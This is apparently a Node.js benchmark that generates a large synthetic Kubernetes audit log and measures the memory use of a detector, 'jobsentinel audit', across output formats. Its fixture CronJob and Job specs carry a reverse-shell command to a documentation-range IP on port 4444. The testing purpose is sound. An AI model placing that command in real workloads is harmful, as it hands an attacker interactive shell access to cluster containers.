// Benchmark: memory of `jobsentinel audit` when a log holds very many matches. The log is what a
// day of a malicious every-minute CronJob looks like, for a month-long investigation window: the
// CronJob controller's Job creates (each with the busybox reverse-shell body, both stages logged),
// 40,000 matches in all across a few CronJobs, among lease renewals. The report must not grow with
// the matches: JSON and SARIF are written as they are found, text keeps a few requests per
// incident. Goal: peak RSS ≤ 150 MB in every format and in elastic mode.
import { spawnSync } from 'node:child_process';
import { createWriteStream, existsSync, mkdirSync, readFileSync, statSync } from 'node:fs';
import { once } from 'node:events';

const MATCHES = 40_000;
const CRONJOBS = 4;
const GOAL_MB = 150;
const root = new URL('..', import.meta.url).pathname;
const dataDir = new URL('.data/', import.meta.url).pathname;
const BIN = `${root}node_modules/.bin/jobsentinel`;
const log = `${dataDir}audit-${MATCHES}-matches.log`;

mkdirSync(dataDir, { recursive: true });
if (!existsSync(log)) {
  console.log(`generating ${log} (cached for later runs)…`);
  await writeLog(log);
}

const runs = [
  ['json (structural)', ['--format', 'json']],
  ['sarif (structural)', ['--format', 'sarif']],
  ['text (structural)', ['--format', 'text']],
  ['json (elastic)', ['--format', 'json', '--mode', 'elastic']],
];
console.log(`input: ${(statSync(log).size / 1e6).toFixed(0)} MB, ${MATCHES} malicious job creates by the CronJob controller (${CRONJOBS} CronJobs)`);
const rows = [['command', 'wall', 'peak RSS', 'matches', 'incidents']];
let met = true;
for (const [name, args] of runs) {
  const out = `${dataDir}audit-matches-out`;
  const run = spawnSync('/usr/bin/time', ['-f', '%e %M', 'bash', '-c', `${quote(BIN)} audit ${args.map(quote).join(' ')} ${quote(log)} > ${quote(out)}`], { encoding: 'utf8' });
  const [wall, rssKB] = run.stderr.trim().split('\n').at(-1).split(' ').map(Number);
  const counts = countsOf(out, args);
  const rssMB = rssKB / 1024;
  // Elastic mode reads the seed rule as written: one match per event, so both stages of each request.
  met &&= rssMB <= GOAL_MB && counts.matches === (args.includes('elastic') ? 2 * MATCHES : MATCHES) + CRONJOBS;
  rows.push([`jobsentinel audit ${name}`, `${wall.toFixed(2)} s`, `${rssMB.toFixed(0)} MB`, String(counts.matches), String(counts.incidents)]);
}
printTable(rows);
console.log(`${met ? 'met    ' : 'NOT met'}  peak RSS ≤ ${GOAL_MB} MB with ${MATCHES} matches in every format and mode, every match reported`);
if (!met) process.exitCode = 1;

function countsOf(path, args) {
  const text = spawnSync('bash', ['-c', `tail -c 2000 ${quote(path)}`], { encoding: 'utf8' }).stdout;
  if (args.includes('json')) {
    const summary = /"matches": (\d+),\s*"incidents": (\d+)/.exec(text);
    return { matches: Number(summary?.[1]), incidents: Number(summary?.[2]) };
  }
  if (args.includes('sarif')) {
    const [run] = JSON.parse(readFileSync(path, 'utf8')).runs;
    return { matches: new Set(run.results.map((result) => result.properties.auditID)).size, incidents: run.properties.incidents.length };
  }
  const summary = /(\d+) suspicious job writes in (\d+) incidents/.exec(text);
  return { matches: Number(summary?.[1]), incidents: Number(summary?.[2]) };
}

async function writeLog(path) {
  const out = createWriteStream(path);
  const write = async (event) => {
    if (!out.write(JSON.stringify(event) + '\n')) await once(out, 'drain');
  };
  const start = Date.UTC(2026, 1, 1);
  const spec = {
    restartPolicy: 'OnFailure',
    containers: [{ name: 'sync', image: 'busybox:1.36', command: ['/bin/sh', '-c', 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'], resources: {}, terminationMessagePath: '/dev/termination-log', imagePullPolicy: 'IfNotPresent' }],
  };
  let id = 0;
  for (let cron = 0; cron < CRONJOBS; cron++) {
    const name = `sync-${cron}`;
    await write(event(++id, start, 'alice@example.com', 'kubectl/v1.30.1', 'cronjobs', name, {
      apiVersion: 'batch/v1', kind: 'CronJob', metadata: { name, namespace: 'default' }, spec: { schedule: '* * * * *', jobTemplate: { spec: { template: { spec } } } },
    }));
  }
  for (let run = 0; run < MATCHES; run++) {
    const cron = run % CRONJOBS;
    const minute = Math.floor(run / CRONJOBS);
    const time = start + (minute + 1) * 60_000;
    const name = `sync-${cron}-${Math.floor(time / 60_000)}`;
    const job = {
      apiVersion: 'batch/v1', kind: 'Job',
      metadata: { name, namespace: 'default', labels: { 'batch.kubernetes.io/controller-uid': `u${run}` }, annotations: { 'batch.kubernetes.io/cronjob-scheduled-timestamp': new Date(time).toISOString() }, ownerReferences: [{ apiVersion: 'batch/v1', kind: 'CronJob', name: `sync-${cron}`, uid: `c${cron}`, controller: true, blockOwnerDeletion: true }] },
      spec: { template: { spec } },
    };
    const auditID = ++id;
    for (const stage of ['RequestReceived', 'ResponseComplete']) {
      await write({ ...event(auditID, time, 'system:serviceaccount:kube-system:cronjob-controller', 'kube-controller-manager/v1.30.2 (linux/amd64) kubernetes/39683505/system:serviceaccount:kube-system:cronjob-controller', 'jobs', name, job), stage, ...(stage === 'RequestReceived' ? { responseStatus: undefined } : {}) });
    }
    // The lease renewals around it: most of any real log.
    await write({ kind: 'Event', apiVersion: 'audit.k8s.io/v1', level: 'Metadata', auditID: `l${run}`, stage: 'ResponseComplete', requestURI: '/apis/coordination.k8s.io/v1/namespaces/kube-system/leases/kube-scheduler', verb: 'update', user: { username: 'system:kube-scheduler' }, sourceIPs: ['172.18.0.2'], userAgent: 'kube-scheduler/v1.30.2', objectRef: { resource: 'leases', namespace: 'kube-system', name: 'kube-scheduler', apiGroup: 'coordination.k8s.io', apiVersion: 'v1' }, responseStatus: { metadata: {}, code: 200 }, requestReceivedTimestamp: new Date(time).toISOString(), stageTimestamp: new Date(time).toISOString() });
  }
  out.end();
  await once(out, 'finish');
}

function event(id, time, user, userAgent, resource, name, body) {
  const at = new Date(time).toISOString();
  return {
    kind: 'Event', apiVersion: 'audit.k8s.io/v1', level: 'RequestResponse', auditID: `a${id}`, stage: 'ResponseComplete', requestURI: `/apis/batch/v1/namespaces/default/${resource}`, verb: 'create',
    user: { username: user, groups: ['system:authenticated'] }, sourceIPs: ['172.18.0.2'], userAgent,
    objectRef: { resource, namespace: 'default', name, apiGroup: 'batch', apiVersion: 'v1' }, responseStatus: { metadata: {}, code: 201 },
    requestObject: body, requestReceivedTimestamp: at, stageTimestamp: at, annotations: { 'authorization.k8s.io/decision': 'allow', 'authorization.k8s.io/reason': '' },
  };
}

function quote(text) {
  return `'${text.replace(/'/g, `'\\''`)}'`;
}

function printTable(rows) {
  const widths = rows[0].map((_, column) => Math.max(...rows.map((row) => row[column].length)));
  for (const [index, row] of rows.entries()) {
    console.log(row.map((cell, column) => (column === 0 ? cell.padEnd(widths[column]) : cell.padStart(widths[column]))).join('  '));
    if (index === 0) console.log(widths.map((width) => '-'.repeat(width)).join('  '));
  }
}
